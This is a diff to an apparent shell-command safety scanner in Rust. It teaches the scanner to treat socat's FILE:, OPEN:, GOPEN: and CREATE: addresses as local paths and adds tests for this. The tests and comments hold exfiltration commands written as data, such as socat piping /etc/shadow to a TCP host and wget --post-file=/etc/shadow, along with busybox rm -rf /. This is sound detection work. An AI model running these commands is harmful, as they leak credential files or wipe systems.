@@ -88,6 +88,14 @@ pub mod fact {
 
 const HASH_DEV: u64 = hash_path(b"/dev");
 
+/// socat address types that name a local file, lower-case.
+const LOCAL_ADDRESSES: [u64; 4] = [hash_keyword(b"file"), hash_keyword(b"open"), hash_keyword(b"gopen"), hash_keyword(b"create")];
+
+#[inline(always)]
+fn is_local_address(tok_hash: u64) -> bool {
+    tok_hash == LOCAL_ADDRESSES[0] || tok_hash == LOCAL_ADDRESSES[1] || tok_hash == LOCAL_ADDRESSES[2] || tok_hash == LOCAL_ADDRESSES[3]
+}
+
 /// `busybox rm -rf /` runs rm inside busybox: its rules are those of the applet, named
 /// by the first argument.
 pub const HASH_BUSYBOX: u64 = hash_name(b"busybox");
@@ -284,6 +292,11 @@ impl Scanner {
                 // `name=@/path` (curl -F): the path comes after the `@`.
                 self.add_flags(T_PATH_NEXT);
             }
+        }
+        // socat's local addresses (`FILE:/etc/shadow`, `OPEN:`, `GOPEN:`, `CREATE:`): the
+        // path comes after the `:`. Only these words: `host:/path` (scp, rsync) is remote.
+        if self.b() == b':' && self.has(T_NOT_OPT) && !self.has(T_EQ) && is_local_address(self.tok_hash) {
+            self.add_flags(T_EQ | T_PATH_NEXT);
         }
         if self.b() == b'=' && !self.has(T_EQ) {
             self.add_flags(T_EQ | T_PATH_NEXT);
@@ -628,6 +641,16 @@ mod tests {
         let s = scan(&["wget", "--post-file=/etc/shadow", "http://x"]);
         assert_ne!(s.paths & fact::SENSITIVE, 0);
         assert_ne!(s.keywords & KW_POST_FILE, 0, "the option name before = is a keyword");
+    }
+
+    #[test]
+    fn socat_local_addresses_carry_paths_and_remote_ones_do_not() {
+        for a in ["FILE:/etc/shadow", "open:/etc/shadow", "GOPEN:/etc//shadow", "create:/etc/shadow"] {
+            assert_ne!(scan(&["socat", a, "TCP:203.0.113.3:4444"]).paths & fact::SENSITIVE, 0, "{a}");
+        }
+        for a in ["host:/etc/shadow", "TCP:/etc/shadow", "files:/etc/shadow", "-:/etc/shadow", "x=file:/etc/shadow"] {
+            assert_eq!(scan(&["scp", a, "."]).paths & fact::SENSITIVE, 0, "{a}");
+        }
     }
 
     #[test]
